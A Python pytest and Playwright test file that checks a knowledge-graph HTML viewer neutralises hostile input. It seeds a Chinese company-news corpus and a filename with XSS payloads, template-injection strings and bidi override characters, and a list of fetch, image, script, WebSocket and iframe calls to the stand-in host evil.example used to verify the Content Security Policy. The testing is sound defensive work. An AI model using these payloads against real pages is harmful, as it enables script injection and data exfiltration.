"""A corpus that wants to run scripts, to call home and to break the page: it is shown as the text it is."""

import re
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from kg import build
from kg.graph import load_graph
from kg.view import FOLDER, to_html

from .conftest import Open

EVIL = (
    "</script><script>globalThis.hacked=1</script><img src=x onerror='globalThis.hacked=2'>"
    '<svg onload=globalThis.hacked=3><a href="javascript:globalThis.hacked=4">x</a>'
    " href={{ 7*7 }}${7*7}{% raw %}"
    "<!--<script>\u202eetirw\u2066\u2028&lt;b&gt;\\u003cb>https://evil.example/x.png"
)
LONG = "长" * 10_000
STORY = f"""{EVIL}工厂开工
2024年5月13日，总投资约7.6亿元的涪江{EVIL}项目在合川区开工，项目由重庆涪江{EVIL}有限公司建设。
重庆涪江轴承有限公司为重庆北碚机械有限公司供应轴承。{EVIL}
重庆北碚机械有限公司位于北碚区，与{LONG}有限公司合作。
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of a hostile source, its names made as bad as names can be."""
    folder = tmp_path_factory.mktemp("hostile")
    source = folder / "<img src=x onerror=alert(1)> 'page'.txt"
    source.write_text(STORY, encoding="utf-8")
    build([source], folder)
    graph = load_graph(folder)
    for number, key in enumerate(sorted(graph)):
        node = graph.nodes[key]
        node["aliases"] = [*node["aliases"], EVIL, LONG]
        node["name"] = f"{node['name']}{LONG if number % 3 == 0 else EVIL}"
        node["reasons"] = [EVIL]
    for article in graph.graph["articles"].values():
        for field in ("headline", "publisher", "page", "url"):
            article[field] += f"javascript:globalThis.hacked=5 {EVIL}"
        article["authors"] = [EVIL]
    for *_, edge in graph.edges(data=True):
        for said in edge["statements"]:
            said["role"] = EVIL
    file = folder / "hostile.html"
    file.write_bytes(to_html(graph, lang="zh"))
    return file


def check(page: Page) -> None:
    """Nothing has run, and no element but ours is there."""
    assert page.evaluate("globalThis.hacked") is None
    tags = set(page.evaluate("[...document.querySelectorAll('body *')].map((one) => one.localName)"))
    assert not tags & {"img", "svg", "iframe", "object", "embed", "link", "base", "b"}
    assert not page.evaluate("[...document.querySelectorAll('[href], [src], [onerror], [onload]')].length")
    scripts = page.evaluate(
        "[...document.scripts].filter((one) => one.text.includes('hacked') && !one.type).length"
    )
    assert scripts == 0


def test_nothing_of_a_document_runs(open_page: Open, hostile: Path) -> None:
    page = open_page(hostile)
    check(page)
    for index in range(page.evaluate("view.entities.length")):
        page.evaluate("(index) => view.choose(index)", index)
        page.evaluate("document.querySelector('#panel .from button')?.click()")
        check(page)
    page.fill("#query", "<img")
    expect(page.locator("#results")).to_contain_text("<img src=x onerror=")
    check(page)
    page.keyboard.press("Enter")
    expect(page.locator("#panel h2")).to_contain_text("{{ 7*7 }}${7*7}{% raw %}")
    for button in ("#filter-button", "#to-ledger", "#to-charts", "#language"):
        page.click(button)
        page.wait_for_selector("html[data-ready=yes]", state="attached")
        check(page)


def test_the_picture_can_be_seen_behind_long_names(open_page: Open, hostile: Path) -> None:
    page = open_page(hostile)
    index = page.evaluate("view.entities.findIndex((one) => one.name.length > 9000)")
    page.evaluate("(index) => view.choose(index)", index)
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.locator("#panel h2").bounding_box()["height"] < 300  # type: ignore[index]
    assert page.evaluate("document.getElementById('panel').scrollHeight") < 20_000
    labels = page.evaluate("view.entities.map((one) => one.dot.label)")
    assert max(map(len, labels)) < 60 and not re.search("[\u2028\u202a-\u202e\u2066]", "".join(labels))


def test_a_mark_that_turns_the_writing_stays_in_its_name(open_page: Open, hostile: Path) -> None:
    page = open_page(hostile)
    page.evaluate("view.choose(view.entities.findIndex((one) => one.name.includes('\\u202e')))")
    kept = page.evaluate(
        """[...document.querySelectorAll("#panel *")]
        .filter((one) => [...one.childNodes].some((text) => text.nodeType === 3 && /\\u202e/.test(text.data)))
        .every((one) => /isolate|plaintext/.test(getComputedStyle(one).unicodeBidi))"""
    )
    assert kept


CONNECTIONS = [
    "fetch('https://evil.example/')",
    "new Image().src = 'https://evil.example/x.png'",
    "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
    "new WebSocket('wss://evil.example/')",
    "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
]


def test_the_policy_of_the_page_forbids_every_connection(
    open_page: Open, sample: Path, complaints: list[str]
) -> None:
    page = open_page(sample)
    for act in CONNECTIONS:
        page.evaluate(f"() => {{ try {{ const x = {act}; x?.catch?.(() => 0); }} catch {{}} }}")
        page.wait_for_timeout(100)
        refused = [one for one in complaints if "Content Security Policy" in one]
        assert refused and refused == complaints, act
        complaints.clear()


NAMESPACE = "http://schemas.openxmlformats.org/"  # what kinds of XML in a workbook are called


def test_no_address_stands_in_our_part_of_the_page() -> None:
    for file in sorted(FOLDER.iterdir()):
        text = file.read_text(encoding="utf-8").replace(NAMESPACE, "")
        assert not re.findall(r"https?:|//[\w-]+\.\w+", text), file.name
